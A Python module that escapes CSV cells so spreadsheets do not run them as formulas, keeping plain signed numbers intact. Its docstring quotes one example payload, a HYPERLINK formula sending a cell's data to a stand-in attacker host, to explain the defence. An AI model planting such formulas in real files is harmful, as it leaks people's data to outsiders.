"""CSV cells that a spreadsheet would run as a formula, made plain text. No I/O.

A cell that begins with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return
before one) is a formula to Excel and LibreOffice: a subject such as
``=HYPERLINK("https://evil.example/?"&A1,"click")`` in a person's data copy or
in an export would run when the file is opened. Such a cell gets a leading
apostrophe, which spreadsheets show as text (OWASP, "CSV Injection"). A plain
number keeps its sign. Only CSV is changed; JSON copies stay exact.
"""

from __future__ import annotations

import re
import unicodedata

_FORMULA = "=+-@"
_NUMBER = re.compile(r"^[+-]?\d+(?:[.,]\d+)*(?:[eE][+-]?\d+)?$")


def _invisible(char: str) -> bool:
    """White space, control and format characters (a tab, a no-break space, a BOM, a
    zero-width space): a spreadsheet may skip them before the first visible one."""
    return char.isspace() or unicodedata.category(char) in ("Cc", "Cf", "Zs", "Zl", "Zp")


def cell(value: object) -> str:
    """``value`` as a CSV cell that no spreadsheet reads as a formula (None: empty)."""
    text = "" if value is None else str(value)
    visible = text.lstrip("".join(char for char in text[:64] if _invisible(char)))
    formula = bool(visible) and visible[0] in _FORMULA and not _NUMBER.match(visible)
    if formula or text.startswith(("\t", "\r")):
        return "'" + text
    return text
